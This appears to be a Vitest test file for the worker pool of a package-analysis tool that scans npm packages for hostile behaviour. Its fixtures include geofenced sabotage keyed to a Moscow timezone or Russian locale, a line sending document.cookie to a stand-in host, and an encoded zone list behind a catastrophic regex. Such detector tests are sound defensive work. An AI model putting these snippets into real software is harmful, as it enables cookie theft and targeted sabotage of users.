import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { PACKAGE_TIME_BUDGET_MS, analyzeFileTask, analyzePackage, analyzePackageWith, type FileTask } from '../../../src/analysis/analyze-package.js';
import { DETECTORS } from '../../../src/analysis/detectors/index.js';
import { createAnalysisPool, estimateFileBytes, type AnalysisPool } from '../../../src/analysis/pool/pool.js';
import { contentTransport } from '../../../src/analysis/pool/protocol.js';
import type { PackageFile } from '../../../src/fetch/types.js';
import { bundleForChild } from '../../support/bundle-for-child.js';

// A worker whose analyser misbehaves on cue, for real: `crash.js` compiles regular expressions
// with the stack nearly exhausted until V8 aborts the process ("RegExpCompiler Allocation failed -
// process out of memory", the fatal error the gate met on hostile nesting), `hang.js` never
// returns, `heap.js` grows past the heap limit, `throw.js` throws. Everything else is analysed.
const WORKER = `
import { analyzeFileTask } from './src/analysis/analyze-package.js';
import { DETECTORS } from './src/analysis/detectors/index.js';
import { runPoolWorker } from './src/analysis/pool/worker-entry.js';
let n = 0;
function dive() {
  try { return dive(); } catch (error) {
    try { new RegExp('(a|b)*c' + n++ + '[x-z]+\\\\d{2,5}').exec('aaaab' + n); } catch {}
    throw error;
  }
}
runPoolWorker((task) => {
  const name = task.file.path;
  if (name.endsWith('crash.js')) for (;;) { try { dive(); } catch {} }
  if (name.endsWith('hang.js')) for (;;) {}
  if (name.endsWith('heap.js')) { const held = []; for (;;) held.push(new Array(100000).fill(n++)); }
  if (name.endsWith('throw.js')) throw new Error('the analyser threw');
  // Keeps 128 MiB resident after it returns, as V8 keeps the heap it grew for a big AST.
  if (name.endsWith('hold.js')) globalThis.held = Buffer.alloc(128 * 1024 * 1024, 1);
  return analyzeFileTask(task, DETECTORS);
});
`;

let script = '';
beforeAll(async () => {
  script = (await bundleForChild(WORKER, 'pool-worker')).script;
}, 60_000);

const MIB = 1024 * 1024;

function task(path: string, text: string, packageTimeLeftMs = 60_000): FileTask {
  return { file: { path, content: Buffer.from(text) }, step: { file: path, kind: 'entry', reach: 'entry', from: null }, packageTimeLeftMs };
}

const open: AnalysisPool[] = [];
function pool(options: Partial<Parameters<typeof createAnalysisPool>[0]> = {}): AnalysisPool {
  const created = createAnalysisPool({ size: 2, script, ...options });
  open.push(created);
  return created;
}
afterAll(async () => {
  await Promise.all(open.map((p) => p.close()));
});

describe('the analysis pool', () => {
  it('gives the result the analysis gives in this thread', async () => {
    const t = task('index.js', "const tz = Intl.DateTimeFormat().resolvedOptions().timeZone; if (tz === 'Europe/Moscow') process.exit(1);");
    const outcome = await pool().analyse(t);
    expect(outcome).toEqual({ ok: true, result: analyzeFileTask(t, DETECTORS), workerMs: expect.any(Number) });
  });

  it('survives a V8 fatal error in a worker, names it, and goes on with a new worker', async () => {
    const p = pool({ size: 1 });
    const crashed = await p.analyse(task('lib/crash.js', 'x'));
    expect(crashed).toMatchObject({ ok: false, reason: 'analysis-error', detail: expect.stringContaining('RegExpCompiler Allocation failed') });
    expect(crashed.ok ? '' : crashed.detail).toMatch(/^the analysis worker died \(signal SIGABRT\)/);
    const next = await p.analyse(task('index.js', 'os.hostname();'));
    expect(next.ok).toBe(true);
  }, 30_000);

  it('stops a worker at the file time limit and replaces it', async () => {
    const p = pool({ size: 1, timeLimitMs: () => 300 });
    const started = performance.now();
    const hung = await p.analyse(task('hang.js', 'x'));
    expect(hung).toMatchObject({ ok: false, reason: 'time-budget', detail: "the analysis worker was stopped at the file's time limit of 300 ms" });
    expect(performance.now() - started).toBeLessThan(5_000);
    expect((await p.analyse(task('index.js', 'x'))).ok).toBe(true);
  }, 30_000);

  it('reports a worker that runs out of heap, and one whose analyser throws', async () => {
    // A budget of 256 MiB gives the workers the smallest heap the pool allows.
    const p = pool({ size: 2, memoryBudgetBytes: 256 * 1024 * 1024 });
    const [heap, thrown] = await Promise.all([p.analyse(task('heap.js', 'x')), p.analyse(task('throw.js', 'x'))]);
    expect(heap).toMatchObject({ ok: false, reason: 'analysis-error', detail: expect.stringMatching(/worker died.*heap/i) });
    expect(thrown).toMatchObject({ ok: false, reason: 'analysis-error', detail: 'analysis failed: the analyser threw' });
  }, 60_000);

  it('runs small files side by side but never two big files at once', async () => {
    const big = 'x'.repeat(1024 * 1024);
    const runs: string[][] = [];
    const p = pool({
      size: 2,
      // Room for one big file and small ones beside it, not for two big ones.
      memoryBudgetBytes: estimateFileBytes(big.length) + estimateFileBytes(1024),
      onTaskStart: (_path, running) => runs.push([...running].sort()),
    });
    const names = ['big-1.js', 'small-1.js', 'big-2.js', 'small-2.js', 'big-3.js'];
    const outcomes = await Promise.all(names.map((name) => p.analyse(task(name, name.startsWith('big') ? `var s = "${big}";` : 'var a = 1;'))));
    expect(outcomes.every((outcome) => outcome.ok)).toBe(true);
    for (const running of runs) expect(running.filter((name) => name.startsWith('big')).length).toBeLessThanOrEqual(1);
    expect(runs.some((running) => running.length === 2)).toBe(true);
  }, 60_000);

  it('answers files queued at close instead of leaving them pending', async () => {
    const p = pool({ size: 1, timeLimitMs: () => 60_000 });
    const hung = p.analyse(task('hang.js', 'x'));
    const queued = p.analyse(task('index.js', 'x'));
    await new Promise((resolve) => setTimeout(resolve, 200));
    await p.close();
    expect(await hung).toMatchObject({ ok: false, detail: 'the analysis pool was closed' });
    expect(await queued).toMatchObject({ ok: false, detail: 'the analysis pool was closed' });
  }, 30_000);

  it('a catastrophic pattern in a decoding chain neither hangs nor kills the worker: the evaluator refuses it', async () => {
    // 40 choices of (a|a) before a `b` that never comes: 2^40 paths for a backtracking engine.
    // The evaluator counts alternations in its backtracking bound and refuses to run it (the
    // workers also run under V8's linear-time fallback, for patterns the rules let through).
    const hidden = Buffer.from(`${'a'.repeat(40)},Europe/Moscow,Asia/Omsk`).toString('base64');
    const source = [
      `const zones = atob("${hidden}").replace(/${'(a|a)'.repeat(40)}b/, '').split(',').slice(1);`,
      'const tz = Intl.DateTimeFormat().resolvedOptions().timeZone;',
      "if (zones.includes(tz)) { document.body.innerHTML = ''; }",
    ].join('\n');
    const p = pool({ size: 1, timeLimitMs: () => 30_000 });
    const outcome = await p.analyse(task('index.js', source));
    if (!outcome.ok) throw new Error(outcome.detail);
    expect(outcome.result.findings.map((finding) => finding.ruleId)).toContain('fingerprint-source');
    expect(outcome.result.findings.find((finding) => finding.ruleId === 'encoded-list-match')).toBeUndefined();
  }, 40_000);

  it.each(['stdin', 'message'] as const)('carries files of every size to the worker byte for byte over %s: empty, multi-byte UTF-8, larger than a pipe buffer', async (transport) => {
    const p = pool({ size: 1, transport });
    const texts = ['', "const s = 'Zürich – 東京 – 🙂'; navigator.language;", `var a = "${'ü'.repeat(200_000)}"; os.hostname();`];
    const tasks = texts.map((text, i) => task(`f${i}.js`, text));
    const outcomes = await Promise.all(tasks.map((t) => p.analyse(t)));
    outcomes.forEach((outcome, i) => expect(outcome).toEqual({ ok: true, result: analyzeFileTask(tasks[i] as FileTask, DETECTORS), workerMs: expect.any(Number) }));
    // The second file waits in the busy worker's pipe; the third, over 256 KiB, waits in the pool.
    expect(p.stats()).toMatchObject({ workersStarted: 1, sentAhead: 1, workerCpuMs: expect.any(Number), peakWorkerRssBytes: expect.any(Number) });
    expect(p.stats().workerCpuMs).toBeGreaterThan(0);
    expect(p.stats().peakWorkerRssBytes).toBeGreaterThan(10 * 1024 * 1024);
  }, 30_000);

  it('sends small files ahead to a busy worker; those behind a file that kills the worker or passes its limit go to the next worker, in order', async () => {
    const runs: string[][] = [];
    const p = pool({ size: 1, timeLimitMs: () => 2_000, onTaskStart: (_path, running) => runs.push([...running]) });
    const names = ['crash.js', 'a.js', 'hang.js', 'b.js'];
    const outcomes = await Promise.all(names.map((name) => p.analyse(task(name, 'os.hostname();'))));
    expect(outcomes.map((outcome) => (outcome.ok ? 'ok' : outcome.reason))).toEqual(['analysis-error', 'ok', 'time-budget', 'ok']);
    expect(outcomes[0]).toMatchObject({ detail: expect.stringContaining('RegExpCompiler Allocation failed') });
    // One worker runs one file at a time, in order, whatever was sent ahead.
    expect(runs).toEqual(names.map((name) => [name]));
    // The crash and the time limit each cost a worker; the files sent ahead of them were not blamed.
    expect(p.stats().workersStarted).toBe(3);
    expect(p.stats().sentAhead).toBeGreaterThanOrEqual(2);
  }, 60_000);

  it('keeps a worker from file to file, even one a file left big: the next file reuses its heap', async () => {
    const p = pool({ size: 1, memoryBudgetBytes: 256 * MIB });
    for (const name of ['a.js', 'hold.js', 'b.js', 'c.js']) expect((await p.analyse(task(name, 'os.hostname();'))).ok).toBe(true);
    expect(p.stats()).toMatchObject({ workersStarted: 1, stoppedForMemory: 0 });
  }, 30_000);

  it('stops an idle worker for the memory it keeps only when a file needs that memory', async () => {
    // A file estimated at about 400 MiB (a long comment: quick to analyse), and a budget 32 MiB
    // over it: enough for two workers keeping 128 MiB each and a small file, not for the big file
    // beside a worker keeping memory it does not use.
    const big = `/*${'x'.repeat(Math.ceil((400 * MIB - estimateFileBytes(0)) / 56))}*/ os.hostname();`;
    const p = pool({ size: 2, memoryBudgetBytes: estimateFileBytes(big.length) + 32 * MIB });
    const held = await Promise.all(['one/hold.js', 'two/hold.js'].map((name) => p.analyse(task(name, 'x'))));
    expect(held.every((outcome) => outcome.ok)).toBe(true);
    expect((await p.analyse(task('small.js', 'os.hostname();'))).ok).toBe(true);
    expect(p.stats()).toMatchObject({ workersStarted: 2, stoppedForMemory: 0 });
    // The big file goes to a worker keeping memory (its heap is reused); the other is stopped.
    const outcome = await p.analyse(task('big.js', big));
    if (!outcome.ok) throw new Error(outcome.detail);
    expect(outcome.result.findings.length).toBeGreaterThan(0);
    expect(p.stats()).toMatchObject({ workersStarted: 2, stoppedForMemory: 1 });
  }, 60_000);

  it('sends the bytes over stdin except on Windows', () => {
    expect(contentTransport('linux')).toBe('stdin');
    expect(contentTransport('darwin')).toBe('stdin');
    expect(contentTransport('win32')).toBe('message');
  });

  it('refuses a size outside 1 to 64', () => {
    expect(() => createAnalysisPool({ size: 0, script })).toThrow(RangeError);
    expect(() => createAnalysisPool({ size: 65, script })).toThrow(RangeError);
  });
});

describe('analyzePackageWith over the pool', () => {
  const file = (path: string, text: string): PackageFile => ({ path, content: Buffer.from(text) });

  it('reports the file whose worker died as analysis-evasion by its reachability, searches it as text, and analyses the rest', async () => {
    const p = pool({ size: 2 });
    const files = {
      files: [
        file('package.json', JSON.stringify({ name: 'p', main: 'index.js' })),
        file('index.js', "require('./lib/crash.js'); os.hostname();"),
        file('lib/crash.js', 'module.exports = require("os").networkInterfaces();'),
        file('test/crash.js', 'x'),
      ],
      integrity: null,
      notes: [],
    };
    const result = await analyzePackageWith(files, DETECTORS, (t) => p.analyse(t));
    expect(result.files.total).toBe(3);
    expect(result.files.parsed).toBe(1);
    expect(result.files.problems.map((problem) => `${problem.file}: ${problem.reason.replace(/\).*$/s, ')')}`)).toEqual([
      'lib/crash.js: the analysis worker died (signal SIGABRT)',
      'test/crash.js: the analysis worker died (signal SIGABRT)',
    ]);
    const evasions = result.findings.filter((f) => f.ruleId === 'analysis-evasion').map((f) => `${f.file} ${f.severity} ${f.evidence.details?.reason}`);
    // Reached from the entry: medium. Reached by nothing: low, as any unparsable file.
    expect(evasions).toEqual(['lib/crash.js medium analysis-error', 'test/crash.js low analysis-error']);
    expect(result.findings.some((f) => f.file === 'lib/crash.js' && f.evidence.details?.method === 'string-scan')).toBe(true);
    expect(result.findings.some((f) => f.file === 'index.js' && f.evidence.sourceKind === 'hostname')).toBe(true);
  }, 60_000);

  it("charges the package's time budget with the time its files held a worker, not the time they queued behind other packages", async () => {
    let now = 0;
    // Every file waits a minute of wall time for a worker and holds it for 5 ms.
    const clock = (): number => (now += 60_000);
    const left: number[] = [];
    // A chain of imports: each file is handed out only when the one before it is answered.
    const names = ['index.js', 'a.js', 'b.js', 'c.js', 'd.js'];
    const files = {
      files: [
        file('package.json', JSON.stringify({ name: 'p', main: 'index.js' })),
        ...names.map((name, i) => file(name, names[i + 1] === undefined ? 'module.exports = 1;' : `require('./${names[i + 1]}');`)),
      ],
      integrity: null,
      notes: [],
    };
    const result = await analyzePackageWith(
      files,
      DETECTORS,
      async (t) => {
        left.push(t.packageTimeLeftMs);
        return { ok: true, result: analyzeFileTask(t, DETECTORS), workerMs: 5 };
      },
      { clock },
    );
    expect(left).toEqual([0, 5, 10, 15, 20].map((spent) => PACKAGE_TIME_BUDGET_MS - spent));
    expect(result.files.parsed).toBe(5);
  });

  it('hands out several files of a package at once where the plan allows, answered in any order, with the analysis of one after another', async () => {
    const files = {
      files: [
        file('package.json', JSON.stringify({ name: 'p', main: 'index.js', bin: { p: 'bin/cli.js' }, scripts: { postinstall: 'node install.js' } })),
        file('install.js', "require('./lib/setup.js'); require('os').hostname();"),
        file('lib/setup.js', "const tz = Intl.DateTimeFormat().resolvedOptions().timeZone; if (tz === 'Europe/Moscow') process.exit(1);"),
        file('index.js', "require('./lib/a.js'); require('./lib/b.js'); const m = require('./locale/' + lang);"),
        file('bin/cli.js', "require('../lib/b.js'); navigator.language;"),
        file('lib/a.js', "require('./c.js'); module.exports = navigator.userAgent;"),
        file('lib/b.js', 'module.exports = screen.width;'),
        file('lib/c.js', "if (navigator.languages.includes('ru-RU')) { fetch('https://x.example/' + document.cookie); }"),
        file('locale/ru.js', 'module.exports = Intl.DateTimeFormat().resolvedOptions().locale;'),
        file('locale/ru.js', 'module.exports = os.userInfo();'),
        ...Array.from({ length: 12 }, (_, i) => file(`test/t${i}.js`, i % 3 === 0 ? 'process.env.CI;' : `x${i} = ${i};`)),
        file('test/broken.js', 'this is not javascript'),
      ],
      integrity: null,
      notes: [],
    };
    let held = 0;
    let mostHeld = 0;
    let seed = 7;
    const result = await analyzePackageWith(files, DETECTORS, async (t) => {
      held++;
      mostHeld = Math.max(mostHeld, held);
      seed = (seed * 48_271) % 2_147_483_647;
      await new Promise((resolve) => setTimeout(resolve, seed % 15));
      held--;
      return { ok: true, result: analyzeFileTask(t, DETECTORS), workerMs: 1 };
    });
    expect(mostHeld).toBeGreaterThan(1);
    expect(result).toEqual(analyzePackage(files, DETECTORS));
    expect(result.files.total).toBe(22);
  });
});
